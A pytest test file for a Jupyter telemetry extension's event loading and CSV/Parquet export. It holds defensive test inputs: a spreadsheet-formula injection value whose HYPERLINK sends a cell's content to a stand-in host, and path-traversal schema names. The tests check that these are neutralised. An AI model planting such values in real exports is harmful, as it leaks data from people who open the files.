"""`load_events` and `export --format` on what an EventLog really wrote to rotated logs."""

from __future__ import annotations

import csv
import hashlib
import hmac
import json
import logging.handlers
import subprocess
import sys
from collections.abc import Iterator
from datetime import datetime, timedelta, timezone
from pathlib import Path
from typing import Any

import pytest

from jupyter_telemetry_ext.core.eventlog import EventLog
from jupyter_telemetry_ext.core.recorded_user import hashed_user
from jupyter_telemetry_ext.core.tombstones import add_to_file, erased_file

pa = pytest.importorskip("pyarrow", reason="the [analysis] extra is not installed")
pq = pytest.importorskip("pyarrow.parquet")
pytest.importorskip("duckdb", reason="the [analysis] extra is not installed")

from jupyter_telemetry_ext.analysis import load_events  # noqa: E402

JUPYTER = str(Path(sys.executable).with_name("jupyter"))
SECRET = b"k" * 64
USERS = {name: hashed_user(SECRET, name) for name in ("alice", "bob", "carol")}
STUDY, OTHER = "test.analysis/study", "test.analysis/other"
START = datetime(2026, 3, 1, 9, tzinfo=timezone.utc)
PERSONAL = ["user-identifiable-information"]
STUDY_SCHEMA = {
    "$id": STUDY, "version": 1, "title": "Study", "description": "A study's events.",
    "type": "object",
    "properties": {
        "action": {"enum": ["open", "run"], "categories": ["unrestricted"]},
        "n": {"type": "integer", "categories": ["unrestricted"]},
        "ok": {"type": "boolean", "categories": ["unrestricted"]},
        "path": {"type": "string", "categories": PERSONAL},
        "cell": {"type": "object", "categories": ["unrestricted"], "properties": {
            "index": {"type": "integer", "categories": ["unrestricted"]},
            "source_path": {"type": "string", "categories": PERSONAL}}},
    },
}  # fmt: skip
TICK = {"action": {"enum": ["tick"], "categories": ["unrestricted"]}}
OTHER_SCHEMA = {**STUDY_SCHEMA, "$id": OTHER, "title": "Other", "properties": TICK}
ALLOWED = ["unrestricted", "user-identifier", "user-identifiable-information"]
CAPSULE = ["received", "event_time", "schema", "version", "user", "client_id"]


def posted(n: int) -> dict[str, Any]:
    """The n-th study event as posted."""
    return {"action": "open" if n % 2 else "run", "n": n, "ok": n % 3 == 0,
            "path": f"/home/u/n{n}.ipynb",
            "cell": {"index": n % 5, "source_path": f"/home/u/s{n}.py"}}  # fmt: skip


def user_of(n: int) -> str:
    return list(USERS.values())[n % 3]


@pytest.fixture
def recorded(tmp_path: Path) -> Iterator[Path]:
    """30 study events of 3 users (an hour apart) and 4 of another schema, in rotated files."""
    log = tmp_path / "logs" / "events.log"
    log.parent.mkdir()
    handler = logging.handlers.RotatingFileHandler(log, maxBytes=1500, backupCount=100)
    allowed = {s: {"allowed_categories": ALLOWED} for s in (STUDY, OTHER)}
    eventlog = EventLog(handlers=[handler], allowed_schemas=allowed)
    eventlog.register_schema(STUDY_SCHEMA)
    eventlog.register_schema(OTHER_SCHEMA)
    for n in range(30):
        context = {"__user__": user_of(n), "__client_id__": f"c{n}"}
        eventlog.record_event(STUDY, 1, posted(n), START + timedelta(hours=n), context=context)
    for _ in range(4):
        eventlog.record_event(OTHER, 1, {"action": "tick"}, START, context={"__user__": "x"})
    eventlog.close()
    handler.close()
    schemas = tmp_path / "schemas"
    schemas.mkdir()
    (schemas / "study.json").write_text(json.dumps(STUDY_SCHEMA))
    config = f"c.TelemetryExtension.schema_paths = [{str(schemas)!r}]\n"
    (tmp_path / "config.py").write_text(config)
    return log


def test_load_events_round_trip_from_rotated_files(recorded: Path) -> None:
    assert len(list(recorded.parent.glob("events.log.*"))) > 2  # rotated files are read too
    df = load_events(recorded, STUDY)
    assert list(df.columns) == [*CAPSULE, "action", "cell.index", "cell.source_path", "n", "ok",
                                "path"]  # fmt: skip
    assert len(df) == 30
    assert list(df["n"]) == list(range(30))  # in order of reception
    assert str(df["received"].dtype).startswith("datetime64")
    assert df["received"].dt.tz is not None
    assert df["received"].iloc[5] == START + timedelta(hours=5)
    assert str(df["n"].dtype) == "Int64"  # the same whether or not an event lacks it
    assert str(df["ok"].dtype) == "boolean"
    for row in df.itertuples(index=False):
        event = posted(row.n)
        assert (row.action, row.ok, row.path) == (event["action"], event["ok"], event["path"])
        assert row._7 == event["cell"]["index"]  # cell.index
        assert (row.user, row.client_id, row.version) == (user_of(row.n), f"c{row.n}", "1")
    assert set(df["schema"]) == {STUDY}


def test_as_arrow_time_window_folder_and_glob(recorded: Path) -> None:
    table = load_events(recorded, STUDY, as_arrow=True, since=START + timedelta(hours=10),
                        until="2026-03-02T04:00:00Z")  # fmt: skip
    assert isinstance(table, pa.Table)
    assert table.column("n").to_pylist() == list(range(10, 19))
    assert pa.types.is_timestamp(table.schema.field("received").type)
    assert len(load_events(recorded.parent, STUDY)) == 30  # a folder
    assert len(load_events(str(recorded.parent / "events.log*"), STUDY)) == 30  # a glob
    assert list(load_events(recorded, OTHER)["action"]) == ["tick"] * 4


@pytest.mark.parametrize(
    ("kwargs", "error", "message"),
    [
        ({}, ValueError, "holds events of 2 schemas"),
        ({"schema": STUDY, "since": "yesterday-ish"}, ValueError, "since: use an RFC 3339"),
        ({"source": "nowhere/events.log"}, FileNotFoundError, "no event log files found"),
        # A range that holds no time is a mistake (the bounds swapped), not an empty answer.
        (
            {"schema": STUDY, "since": "2026-03-02", "until": "2026-03-01"},
            ValueError,
            r"until: 2026-03-01T00:00:00\+00:00 is not later than since",
        ),
        ({"schema": STUDY, "since": START, "until": START}, ValueError, "not later than since"),
        ({"schema": STUDY, "since": 1772355600}, TypeError, "since: a datetime, a date or text"),
    ],
)
def test_bad_input_is_a_clear_error(
    recorded: Path, kwargs: dict[str, Any], error: type[Exception], message: str
) -> None:
    source = kwargs.pop("source", recorded)
    with pytest.raises(error, match=message):
        load_events(source, **kwargs)


@pytest.mark.parametrize("window", [{"since": "2030-01-01"}, {"until": "2026-01-01"}])
def test_an_empty_time_range_keeps_the_schemas_columns_and_types(
    recorded: Path, window: dict[str, str]
) -> None:
    """Code written for the events (the docs' `cells[["status", ...]]`) runs on a week without
    any: the columns are those of the schema's events at any time."""
    every = load_events(recorded, STUDY)
    none = load_events(recorded, STUDY, **window)
    assert len(none) == 0
    assert dict(none.dtypes) == dict(every.dtypes)
    assert none[["received", "user", "action", "n", "cell.index"]].empty
    arrow = load_events(recorded, STUDY, as_arrow=True, **window)
    assert arrow.schema == load_events(recorded, STUDY, as_arrow=True).schema


def test_a_date_is_its_utc_day_as_its_text_is(recorded: Path) -> None:
    day = START.date()
    by_date = load_events(recorded, STUDY, since=day, until=day + timedelta(days=1))
    by_text = load_events(recorded, STUDY, since=day.isoformat(),
                          until=(day + timedelta(days=1)).isoformat())  # fmt: skip
    assert len(by_date) == len(by_text) > 0
    assert list(by_date["received"]) == list(by_text["received"])


def test_a_line_that_is_not_json_stops_the_reading_naming_the_file(recorded: Path) -> None:
    with recorded.open("a") as log:
        log.write("{broken json\n")
    with pytest.raises(
        ValueError, match=r"cannot read the event logs: .*Malformed JSON.*events\.log"
    ):
        load_events(recorded, STUDY)


def test_a_misspelt_schema_id_is_an_error_naming_it(recorded: Path) -> None:
    with pytest.raises(ValueError, match=r"schema='test\.analysis/studdy': no event of the source "
                       "and no installed schema has this id"):  # fmt: skip
        load_events(recorded, "test.analysis/studdy")


def test_an_installed_schema_without_events_gives_no_rows_but_every_capsule_column(
    recorded: Path,
) -> None:
    df = load_events(recorded, "https://events.jupyter.org/jupyter_telemetry_ext/clipboard")
    assert len(df) == 0
    assert list(df.columns) == CAPSULE


def test_properties_whose_column_names_clash_each_get_a_column(tmp_path: Path) -> None:
    """A property named `cell.index` beside `cell: {index}`, `data: {user}` beside `user` (which
    is `data.user`): one column each, the later named with `#2`, not an error."""
    head = {"__timestamp__": "2026-03-01T09:00:00Z", "__schema__": "x/y",
            "__schema_version__": 1, "__metadata_version__": 1}  # fmt: skip
    first = {**head, "cell": {"index": 1}, "cell.index": "one", "user": "u", "data": {"user": "d"}}
    log = tmp_path / "events.log"
    log.write_text(json.dumps(first) + "\n" + json.dumps({**head, "cell": {"index": 2}}) + "\n")
    df = load_events(log)
    assert list(df.columns) == [*CAPSULE, "cell.index", "cell.index#2", "data.user#2", "data.user"]
    assert df.iloc[0][["cell.index", "cell.index#2", "data.user", "data.user#2"]].tolist() == [
        1, "one", "u", "d"]  # fmt: skip
    assert df["cell.index"].tolist() == [1, 2]


def test_an_object_whose_keys_differ_only_by_case_is_json_text(tmp_path: Path) -> None:
    """Keys a user chose (`user_expressions: {"A": ..., "a": ...}`) cannot be struct fields,
    which DuckDB names whatever their case: that property is JSON text, the others as ever."""
    head = {"__timestamp__": "2026-03-01T09:00:00Z", "__schema__": "x/y",
            "__schema_version__": 1, "__metadata_version__": 1}  # fmt: skip
    rows = [{**head, "n": 1, "u": {"A": "1", "a": "2"}}, {**head, "n": 2, "u": {"b": "3"}},
            {**head, "n": 3, "e": {"": 1}}]  # fmt: skip
    log = tmp_path / "events.log"
    log.write_text("".join(json.dumps(r) + "\n" for r in rows))
    df = load_events(log)
    assert df["u"].tolist()[:2] == ['{"A":"1","a":"2"}', '{"b":"3"}']
    assert df["e"].tolist()[2] == '{"":1}'
    assert df["n"].tolist() == [1, 2, 3]
    log.write_text(json.dumps({**head, "A": 1, "a": 2}) + "\n")
    with pytest.raises(ValueError, match="the properties 'A', 'a' differ only by case"):
        load_events(log)


@pytest.mark.parametrize("source", ["log", "folder", "glob"])
def test_erased_users_are_never_loaded_even_from_a_copy(recorded: Path, source: str) -> None:
    # The tombstone alone (the events still in the files, as in a copy made before the erasure)
    add_to_file(erased_file(recorded), [USERS["alice"]], START + timedelta(days=30))
    where = {"log": recorded, "folder": recorded.parent, "glob": f"{recorded}*"}[source]
    df = load_events(where, STUDY)
    assert USERS["alice"] not in set(df["user"])
    assert len(df) == 20


def run(*args: str, cwd: Path) -> subprocess.CompletedProcess[str]:
    return subprocess.run([JUPYTER, "telemetry", *args], cwd=cwd, capture_output=True,
                          text=True, timeout=120, check=False)  # fmt: skip


def export(recorded: Path, out: str, *args: str) -> subprocess.CompletedProcess[str]:
    return run("export", "--config", "config.py", "--out", out, *args, str(recorded),
               cwd=recorded.parent.parent)  # fmt: skip


def test_export_parquet_round_trip_without_personal_properties(
    recorded: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    salt = "a-salt-of-sixteen-chars"
    monkeypatch.setenv("TEST_ANALYSIS_SALT", salt)  # read by the command, off its command line
    done = export(recorded, "ds", "--format", "parquet", "--salt", "env:TEST_ANALYSIS_SALT")
    assert done.returncode == 0, done.stderr
    assert "exported 34 events in 2 files" in done.stdout
    out = recorded.parent.parent / "ds"
    assert sorted(p.name for p in out.iterdir()) == [
        "datasheet.md", "manifest.json", "other-v1.parquet", "study-v1.parquet"]  # fmt: skip
    table = pq.read_table(out / "study-v1.parquet")
    assert table.column_names == ["received", "event_time", "schema", "version", "user",
                                  "action", "cell.index", "n", "ok"]  # fmt: skip
    assert table.column("n").to_pylist() == list(range(30))
    assert pa.types.is_int64(table.schema.field("n").type)
    expected = {hmac.new(salt.encode(), u.encode(), hashlib.sha256).hexdigest()
                for u in USERS.values()}  # fmt: skip
    assert set(table.column("user").to_pylist()) == expected
    manifest = json.loads((out / "manifest.json").read_text())
    [study] = [f for f in manifest["files"] if f["schema"] == STUDY]
    assert (study["events"], study["users"], study["found"]) == (30, 3, True)
    assert study["first"] == START.isoformat()
    assert {c["name"]: c["categories"] for c in study["left_out"]} == {
        "path": PERSONAL, "cell.source_path": PERSONAL}  # fmt: skip
    [other] = [f for f in manifest["files"] if f["schema"] == OTHER]
    assert not other["found"]
    assert other["left_out"][0]["name"] == "action"
    assert "was not found" in done.stderr
    sheet = (out / "datasheet.md").read_text()
    assert "`study-v1.parquet`: Study" in sheet
    assert "given by the researcher" in sheet
    assert salt not in sheet + json.dumps(manifest)
    assert "/home/u" not in sheet + json.dumps(manifest)


def test_two_exports_cannot_be_joined_by_user(recorded: Path) -> None:
    for out in ("one", "two"):
        assert export(recorded, out, "--format", "parquet", "--schema", STUDY).returncode == 0
    users = [set(pq.read_table(recorded.parent.parent / out / "study-v1.parquet")
                 .column("user").to_pylist()) for out in ("one", "two")]  # fmt: skip
    assert len(users[0]) == len(users[1]) == 3
    assert not users[0] & users[1]
    assert not users[0] & set(USERS.values())


def test_export_csv_with_an_included_category(recorded: Path) -> None:
    done = export(recorded, "ds", "--format", "csv", "--schema", STUDY,
                  "--include-category", "user-identifiable-information",
                  "--include-category", "user-identifable-information")  # fmt: skip
    assert done.returncode == 0, done.stderr
    assert "--include-category user-identifable-information: no exported" in done.stderr
    assert "user-identifiable-information:" not in done.stderr
    lines = (recorded.parent.parent / "ds" / "study-v1.csv").read_text().splitlines()
    header = "received,event_time,schema,version,user,action,cell.index,cell.source_path,n,ok,path"
    assert lines[0] == header
    assert len(lines) == 31
    assert "/home/u/n0.ipynb" in lines[1]


@pytest.mark.parametrize(
    ("args", "code", "message"),
    [
        (["--format", "parquet", "--user", "alice"], 2, "two exports: give one"),
        (["--format", "xml"], 2, "format"),
        (["--format", "parquet", "--salt", "short"], 2, "--salt: at least 16 characters"),
        (["--format", "parquet", "--salt", "env:NO_SUCH_SALT"], 2, "variable is empty or not set"),
        (
            ["--format", "parquet", "--since", "2030-01-01"],
            1,
            "no events received at or after 2030-01-01T00:00:00+00:00 in ",
        ),
        (["--format", "parquet", "--schema", "a", "--schema", "b"], 2, "one schema id"),
        (
            ["--format", "parquet", "--since", "2026-03-02", "--until", "2026-03-01"],
            2,
            "export: --until: 2026-03-01T00:00:00+00:00 is not later than since",
        ),
        (["--user", "alice", "--since", "7d"], 2, "two exports: give one"),
    ],
)
def test_export_refusals(recorded: Path, args: list[str], code: int, message: str) -> None:
    done = export(recorded, "ds", *args)
    assert done.returncode == code, done.stderr
    assert message in done.stderr
    assert not (recorded.parent.parent / "ds").exists() or not any(
        (recorded.parent.parent / "ds").iterdir()
    )


def test_export_never_mixes_datasets(recorded: Path) -> None:
    (recorded.parent.parent / "ds").mkdir()
    (recorded.parent.parent / "ds" / "old.parquet").write_text("x")
    done = export(recorded, "ds", "--format", "parquet")
    assert done.returncode == 2
    assert "must be a new or empty folder" in done.stderr


def test_without_the_extra_says_what_to_install(recorded: Path) -> None:
    code = ("import sys; sys.modules['duckdb'] = None\n"
            "from jupyter_telemetry_ext.cli.main import main\n"
            f"main(['export', '--format', 'csv', '--out', 'ds', {str(recorded)!r}])")  # fmt: skip
    done = subprocess.run([sys.executable, "-c", code], cwd=recorded.parent, capture_output=True,
                          text=True, timeout=60, check=False)  # fmt: skip
    assert done.returncode == 2
    assert "pip install 'jupyter_telemetry_ext[analysis]'" in done.stderr
    code = ("import sys; sys.modules['duckdb'] = None\n"
            "from jupyter_telemetry_ext.analysis import load_events, AnalysisExtraError\n"
            f"try: load_events({str(recorded)!r})\n"
            "except AnalysisExtraError as e: print(e)")  # fmt: skip
    done = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True,
                          timeout=60, check=False)  # fmt: skip
    assert "[analysis] extra" in done.stdout, done.stderr


def test_the_person_export_is_unchanged(recorded: Path) -> None:
    done = run("export", "--user", USERS["bob"], str(recorded), cwd=recorded.parent)
    assert done.returncode == 0, done.stderr
    assert len(done.stdout.splitlines()) == 10


def test_a_property_some_events_lack_keeps_its_type(tmp_path: Path) -> None:
    log = tmp_path / "events.log"
    lines = [{"__timestamp__": f"2026-03-01T09:00:0{i}Z", "__schema__": STUDY,
              "__schema_version__": 1, **({"n": i, "ok": True} if i % 2 else {})}
             for i in range(4)]  # fmt: skip
    log.write_text("".join(json.dumps(line) + "\n" for line in lines))
    df = load_events(log)
    assert str(df["n"].dtype) == "Int64"
    assert str(df["ok"].dtype) == "boolean"
    assert df["n"].isna().tolist() == [True, False, True, False]


def test_dataset_file_names_are_plain_and_distinct() -> None:
    from jupyter_telemetry_ext.analysis.dataset import _file_names

    names = _file_names([("https://a.org/x/cell", "1"), ("https://b.org/y/cell", "1"),
                         ("../../etc/..", "1/../2"), ("kernel", "2")], "csv")  # fmt: skip
    assert names[("kernel", "2")] == "kernel-v2.csv"
    cells = [names[("https://a.org/x/cell", "1")], names[("https://b.org/y/cell", "1")]]
    assert cells[0] != cells[1]
    assert all(n.startswith("cell-") and n.endswith("-v1.csv") for n in cells)
    assert "/" not in names[("../../etc/..", "1/../2")]
    assert not names[("../../etc/..", "1/../2")].startswith(".")


def test_export_exits_1_when_the_schema_matches_nothing_naming_it_and_the_logs(
    recorded: Path,
) -> None:
    done = export(recorded, "ds", "--format", "csv", "--schema", "nosuch", "--until", "2030-01-01")
    assert (done.returncode, done.stdout) == (1, "")
    assert done.stderr == (
        "jupyter telemetry: export: no events of schema 'nosuch' received before "
        f"2030-01-01T00:00:00+00:00 in {recorded}: nothing was written\n"
    )
    assert not (recorded.parent.parent / "ds").exists()


# Values a user could post that a spreadsheet would run (or read as a sum), and plain ones.
FORMULAS = ['=HYPERLINK("http://example.invalid/?"&A1,"x")', "+1+1", "-2+3", "@SUM(1)", "\tx",
            "\rx"]  # fmt: skip
PLAIN = ["python3", "a=b", "'quoted", ""]
NAMED = {"$id": "test.analysis/named", "version": 1, "title": "Named", "description": "Names.",
         "type": "object", "properties": {
             "name": {"type": "string", "categories": ["unrestricted"]},
             "n": {"type": "integer", "categories": ["unrestricted"]}}}  # fmt: skip


def test_the_csv_export_marks_a_formula_as_text_as_the_dashboard_does(tmp_path: Path) -> None:
    from jupyter_telemetry_ext.core.spreadsheet import neutralised

    log = tmp_path / "events.log"
    handler = logging.FileHandler(log)
    allowed = {NAMED["$id"]: {"allowed_categories": ["unrestricted"]}}
    eventlog = EventLog(handlers=[handler], allowed_schemas=allowed)
    eventlog.register_schema(NAMED)
    for n, name in enumerate(FORMULAS + PLAIN):
        eventlog.record_event(NAMED["$id"], 1, {"name": name, "n": -n}, START + timedelta(hours=n))
    eventlog.close()
    handler.close()
    (tmp_path / "schemas").mkdir()
    (tmp_path / "schemas" / "named.json").write_text(json.dumps(NAMED))
    config = f"c.TelemetryExtension.schema_paths = [{str(tmp_path / 'schemas')!r}]\n"
    (tmp_path / "config.py").write_text(config)
    for fmt in ("csv", "parquet"):
        done = run("export", "--config", "config.py", "--out", fmt, "--format", fmt, str(log),
                   cwd=tmp_path)  # fmt: skip
        assert done.returncode == 0, done.stderr
    with (tmp_path / "csv" / "named-v1.csv").open(encoding="utf-8", newline="") as f:
        cells = list(csv.DictReader(f))
    marked = ["'" + name for name in FORMULAS]
    assert [row["name"] for row in cells] == marked + PLAIN
    assert [neutralised(name) for name in FORMULAS + PLAIN] == marked + PLAIN  # the same rule
    assert [row["n"] for row in cells] == [str(-n) for n in range(len(cells))]  # numbers as is
    sheet = (tmp_path / "csv" / "datasheet.md").read_text()
    assert "starts with a `'` in these CSV files" in sheet
    table = pq.read_table(tmp_path / "parquet" / "named-v1.parquet")
    assert table.column("name").to_pylist() == FORMULAS + PLAIN  # Parquet: as recorded
    assert "these CSV files" not in (tmp_path / "parquet" / "datasheet.md").read_text()


@pytest.mark.parametrize("where", [{}, {"c": {}}, {"l": []}])
def test_an_integer_beyond_int64_stops_the_reading_naming_the_property_not_the_value(
    tmp_path: Path, where: dict[str, Any]
) -> None:
    """2**63 (which another writer than the REST API may record) was read as an empty value."""
    head = {"__timestamp__": "2026-03-01T09:00:00Z", "__schema__": "x/y",
            "__schema_version__": 1}  # fmt: skip
    edges = [2**63 - 1, -(2**63)]
    log = tmp_path / "events.log"
    log.write_text("".join(json.dumps({**head, "n": n, "c": {"k": n}, "l": [n]}) + "\n"
                           for n in edges))  # fmt: skip
    df = load_events(log)  # the ends of the range are read as they are
    assert df["n"].tolist() == df["c.k"].tolist() == edges
    assert df["l"].tolist() == [[n] for n in edges]
    big = {"n": 1, "c": {"k": 1}, "l": [1]}
    key = next(iter(where), "n")
    big[key] = {"c": {"k": 2**63}, "l": [2, 2**63]}.get(key, 2**63)
    with log.open("a") as f:
        f.write(json.dumps({**head, **big}) + "\n")
    name = {"n": "n", "c": "c.k", "l": "l"}[key]
    with pytest.raises(ValueError, match="beyond the 64-bit range") as error:
        load_events(log)
    assert f"schema 'x/y': the property {name!r} holds an integer" in str(error.value)
    assert str(2**63) not in str(error.value)


@pytest.mark.parametrize("fmt", ["parquet", "csv"])
def test_an_export_of_an_integer_beyond_int64_stops_naming_the_property_not_the_value(
    tmp_path: Path, fmt: str
) -> None:
    head = {"__timestamp__": "2026-03-01T09:00:00Z", "__schema__": NAMED["$id"],
            "__schema_version__": 1}  # fmt: skip
    log = tmp_path / "events.log"
    log.write_text("".join(json.dumps({**head, "name": "a", "n": n}) + "\n" for n in (1, 2**63)))
    (tmp_path / "named.json").write_text(json.dumps(NAMED))
    (tmp_path / "config.py").write_text("c.TelemetryExtension.schema_paths = ['named.json']\n")
    done = run("export", "--config", "config.py", "--out", "ds", "--format", fmt, str(log),
               cwd=tmp_path)  # fmt: skip
    assert done.returncode == 2, done.stderr
    assert (f"export: schema {NAMED['$id']!r} version '1': the property 'n' holds an integer "
            "beyond the 64-bit range") in done.stderr  # fmt: skip
    assert str(2**63) not in done.stderr


TIMED = {"$id": "test.analysis/timed", "version": 1, "title": "Timed", "description": "Periods.",
         "type": "object", "properties": {
             "period_s": {"type": "number", "categories": ["unrestricted"]},
             "n": {"type": "integer", "categories": ["unrestricted"]},
             "ok": {"type": "boolean", "categories": ["unrestricted"]},
             "kind": {"enum": ["a", "b"], "categories": ["unrestricted"]},
             "note": {"type": ["string", "null"], "categories": ["unrestricted"]},
             "tags": {"type": "array", "items": {"type": "string"},
                      "categories": ["unrestricted"]},
             "cell": {"type": "object", "categories": ["unrestricted"], "properties": {
                 "index": {"type": "integer", "categories": ["unrestricted"]}}},
             "extra": {"type": "object", "categories": ["unrestricted"]}}}  # fmt: skip


def test_two_exports_of_a_schema_version_concatenate_with_the_schemas_types(
    tmp_path: Path,
) -> None:
    """A `number` whose values happen to be whole, a column without an empty value, a property
    that no event of one export holds: the same Parquet schema all the same."""
    (tmp_path / "timed.json").write_text(json.dumps(TIMED))
    (tmp_path / "config.py").write_text("c.TelemetryExtension.schema_paths = ['timed.json']\n")
    whole = {"period_s": 5, "n": 1, "ok": True, "kind": "a", "note": "x", "tags": ["t"],
             "cell": {"index": 1}, "extra": {"k": 1}}  # fmt: skip
    halves = [{"period_s": 2.5, "n": None}, {"period_s": 1.5, "n": 3, "note": None}]
    for name, events in (("whole", [whole, whole]), ("halves", halves)):
        log = tmp_path / f"{name}.log"
        handler = logging.FileHandler(log)
        allowed = {TIMED["$id"]: {"allowed_categories": ALLOWED}}
        eventlog = EventLog(handlers=[handler], allowed_schemas=allowed)
        eventlog.register_schema(TIMED)
        for event in events:
            eventlog.record_event(
                TIMED["$id"], 1, {k: v for k, v in event.items() if v is not None}
            )
        eventlog.close()
        handler.close()
        done = run("export", "--config", "config.py", "--out", name, "--format", "parquet",
                   str(log), cwd=tmp_path)  # fmt: skip
        assert done.returncode == 0, done.stderr
    files = [tmp_path / name / "timed-v1.parquet" for name in ("whole", "halves")]
    schemas = [pq.read_schema(f) for f in files]
    assert schemas[0] == schemas[1]
    types = {f.name: f.type for f in schemas[0]}
    assert types["period_s"] == pa.float64()
    assert types["n"] == types["cell.index"] == pa.int64()
    assert types["ok"] == pa.bool_()
    assert types["kind"] == types["note"] == types["extra"] == pa.string()
    assert pa.types.is_list(types["tags"])
    assert types["tags"].value_type == pa.string()
    assert all(f.nullable for f in schemas[0])
    both = pa.concat_tables([pq.read_table(f) for f in files])
    assert both.column("period_s").to_pylist() == [5.0, 5.0, 2.5, 1.5]
    assert both.column("n").to_pylist() == [1, 1, None, 3]
    assert both.column("extra").to_pylist() == ['{"k":1}', '{"k":1}', None, None]
    assert pq.ParquetDataset(files).read().num_rows == 4


def test_csv_times_are_utc_to_the_millisecond_as_spreadsheets_read_them(recorded: Path) -> None:
    """DuckDB wrote `2026-03-01 09:00:00+00`, which LibreOffice and Excel keep as text."""
    done = export(recorded, "ds", "--format", "csv", "--schema", STUDY)
    assert done.returncode == 0, done.stderr
    with (recorded.parent.parent / "ds" / "study-v1.csv").open(encoding="utf-8") as f:
        rows = list(csv.DictReader(f))
    assert [row["received"] for row in rows[:2]] == ["2026-03-01 09:00:00.000",
                                                     "2026-03-01 10:00:00.000"]  # fmt: skip
    for n, row in enumerate(rows):
        read = datetime.strptime(row["received"] + "+0000", "%Y-%m-%d %H:%M:%S.%f%z")
        assert read == START + timedelta(hours=n)
    sheet = (recorded.parent.parent / "ds" / "datasheet.md").read_text()
    assert "`received` and `event_time` are UTC, to the millisecond" in sheet


def test_an_exported_value_its_schema_does_not_allow_is_kept_not_emptied(tmp_path: Path) -> None:
    """A log another writer made (`n` text where the schema says integer): read as it is."""
    head = {"__timestamp__": "2026-03-01T09:00:00Z", "__schema__": NAMED["$id"],
            "__schema_version__": 1}  # fmt: skip
    log = tmp_path / "events.log"
    log.write_text("".join(json.dumps({**head, "name": "a", "n": n}) + "\n" for n in ("x", "y")))
    (tmp_path / "named.json").write_text(json.dumps(NAMED))
    (tmp_path / "config.py").write_text("c.TelemetryExtension.schema_paths = ['named.json']\n")
    done = run("export", "--config", "config.py", "--out", "ds", "--format", "parquet", str(log),
               cwd=tmp_path)  # fmt: skip
    assert done.returncode == 0, done.stderr
    assert pq.read_table(tmp_path / "ds" / "named-v1.parquet").column("n").to_pylist() == ["x", "y"]
